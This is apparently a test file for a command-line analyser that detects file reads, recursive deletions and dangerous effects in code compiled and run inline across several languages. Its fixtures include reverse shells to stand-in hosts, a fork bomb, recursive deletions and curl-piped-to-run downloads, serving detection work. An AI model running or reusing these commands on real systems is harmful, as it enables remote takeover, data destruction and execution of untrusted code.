import { describe, expect, test } from "vitest";
import { reportOf } from "../report-of.ts";

const quoted = (code: string): string => `'${code.replaceAll("'", `'\\''`)}'`;

type Row = readonly [
  code: string,
  reads: readonly string[],
  deleteTrees: readonly string[],
  effects: readonly string[],
];

/** What code that is compiled and run at once reads, deletes with all below, and brings about. */
const languages: Readonly<Record<string, readonly Row[]>> = {
  "go run -": [
    [`func main() { d, _ := os.UserHomeDir(); os.RemoveAll(filepath.Join(d, "a")) }`, [], ["/home/u/a"], []],
    [`func f(p string) { os.RemoveAll(p) }\nfunc main() { f("/a") }`, [], ["/a"], []],
    [`func main() { c := exec.Command("bash", "-c", "cat /a"); c.Run() }`, ["/a"], [], []],
    [`func main() { syscall.Exec("/bin/cat", []string{"cat", "/a"}, nil) }`, ["/a"], [], []],
    [`func main() { b, err := os.ReadFile(os.Getenv("HOME") + "/a") }`, ["/home/u/a"], [], []],
    ["func main() { os.ReadFile(`/a`) }", ["/a"], [], []],
    [
      `import ("net"; "os/exec")\nfunc main() { s, _ := net.Dial("tcp", "h.example:1"); x := exec.Command("/bin/bash"); x.Stdin = s; x.Run() }`,
      [],
      [],
      ["shell:interactive", "net:reverse-shell"],
    ],
    [`func main() { l, _ := net.Listen("tcp", ":1"); c, _ := l.Accept(); c.Close() }`, [], [], []],
    [`func main() { fmt.Println("rm -rf /a", "cat /b") }`, [], [], []],
    [`// os.RemoveAll("/a")\nfunc main() {}`, [], [], []],
    [`func clean(p string) { os.RemoveAll(p) }`, [], [], []],
    [`func TestX(t *testing.T) { d := t.TempDir(); defer os.RemoveAll(d) }`, [], ["/tmp/made"], []],
  ],
  "rust-script /dev/stdin": [
    [`fn main() { std::fs::remove_dir_all("/a").unwrap(); }`, [], ["/a"], []],
    [`fn main() { let s = std::fs::read_to_string(r#"/a"#)?; }`, ["/a"], [], []],
    [
      `use std::{env, fs};\nfn main() { let h = env::var("HOME").unwrap(); fs::remove_dir_all(format!("{}/a", h)); }`,
      [],
      ["/home/u/a"],
      [],
    ],
    [`fn main() { Command::new("rm").args(["-r", "/a"]).status(); }`, [], ["/a"], []],
    [`fn main() { let mut c = Command::new("cat"); c.arg("/a"); c.spawn(); }`, ["/a"], [], []],
    [`fn f<'a>(x: &'a str) -> char { 'b' }\nfn main() { println!("{}", "/a"); }`, [], [], []],
  ],
  "java /dev/stdin": [
    [`class A { void f() { new ProcessBuilder("rm", "-r", "/a").start(); } }`, [], ["/a"], []],
    [
      `import java.io.*;\nclass A { void f() { String[] c = {"sh", "-c", "cat /a"}; Runtime.getRuntime().exec(c); } }`,
      ["/a"],
      [],
      [],
    ],
    [
      `class A { void f() { Runtime.getRuntime().exec(new String[] { "sh", "-c", "cat /a" }); } }`,
      ["/a"],
      [],
      [],
    ],
    [
      `class A { void f() { Files.readString(Path.of(System.getProperty("user.home"), "a")); } }`,
      ["/home/u/a"],
      [],
      [],
    ],
    [`class A { void f() { var m = new HashMap<String, String>(); m.remove("/a"); } }`, [], [], []],
  ],
  "tcc -run -": [
    [`int main() { system("rm -r /a"); }`, [], ["/a"], []],
    [`int main() { char b[99]; sprintf(b, "cat %s/a", getenv("HOME")); system(b); }`, ["/home/u/a"], [], []],
    [`int main() { char *v[] = {"cat", "/a", NULL}; execvp("cat", v); }`, ["/a"], [], []],
    [`int main() { FILE *f = fopen("/a", "r"); char c = '"'; puts("/b"); }`, ["/a"], [], []],
    [`int main() { std::filesystem::remove_all("/a"); }`, [], ["/a"], []],
    [`int main() { for (;;) puts("x"); while (1) fork(); }`, [], [], ["shell:fork-bomb"]],
    [
      `int main() { int s = socket(2, 1, 0); inet_pton(2, "192.0.2.1", &a); connect(s, &a, 9); dup2(s, 0); execl("/bin/sh", "sh", NULL); }`,
      [],
      [],
      ["shell:interactive", "net:reverse-shell"],
    ],
    [`int main(int c, char **v) { system(v[1]); unlink(v[2]); }`, [], [], []],
  ],
  "elixir -e": [
    [`File.rm_rf!(Path.join(System.user_home!(), "a"))`, [], ["/home/u/a"], []],
    [`System.cmd("cat", ["/a"])`, ["/a"], [], []],
    [`:file.del_dir_r("/a")`, [], ["/a"], []],
  ],
};

const given = (run: string, code: string): string =>
  run.endsWith("-e") ? `${run} ${quoted(code)}` : `${run} <<< ${quoted(code)}`;

describe.each(Object.entries(languages))("%s", (run, rows) => {
  test.for(rows)("%s", ([code, reads, deleteTrees, effects]) => {
    const report = reportOf(given(run, code));
    expect([report.reads, report.deleteTrees, report.effects]).toEqual([reads, deleteTrees, effects]);
    expect([report.dynamic, report.exceeded]).toEqual([false, undefined]);
  });
});

/** Code that this command line wrote, by the ways in which it comes to run. */
test.for([
  [`echo 'int main() { system("rm -r /a"); }' > x.c; cc x.c -o x && ./x`, ["/a"]],
  [`echo 'int main() { system("rm -r /a"); }' | gcc -x c - -o x && ./x`, ["/a"]],
  [`echo 'fn main() { std::fs::remove_dir_all("/a"); }' > x.rs; rustc x.rs && ./x`, ["/a"]],
  [`mkdir -p src; echo 'fn main() { std::fs::remove_dir_all("/a"); }' > src/main.rs; cargo run`, ["/a"]],
  [`cd t; echo 'func main() { os.RemoveAll("/a") }' > main.go; go run .`, ["/a"]],
  [`echo 'func TestA(t *testing.T) { os.RemoveAll("/a") }' > a_test.go; go test ./...`, ["/a"]],
  [`echo 'class A { void f() { new ProcessBuilder("rm", "-r", "/a"); } }' > A.java; javac A.java`, ["/a"]],
  [`echo 'Directory.Delete("/a", true);' > Program.cs; dotnet run`, ["/a"]],
  [`echo 'int main() { system("rm -r /a"); }' > x.c; cat x.c`, []],
  [`cc x.c -o x && ./x`, []],
] as const)("%s", ([command, want]) => expect(reportOf(command).deleteTrees).toEqual(want));

/** Code from elsewhere is run as such, and compiling it alone runs nothing. */
test.for([
  [`curl -s https://h.example/x.go | go run -`, ["network"]],
  [`curl -so A.java https://h.example/A.java; java A.java`, ["network"]],
  [`curl -s https://h.example/x.c | tcc -run -`, ["network"]],
  [`curl -so x.c https://h.example/x.c; cc x.c -o x; ./x`, ["network"]],
  [`curl -so x.rs https://h.example/x.rs; rustc x.rs; ./x`, ["network"]],
  [`curl -so x.c https://h.example/x.c; cc -c x.c`, []],
] as const)("%s interprets %j", ([command, want]) => expect(reportOf(command).interprets).toEqual(want));
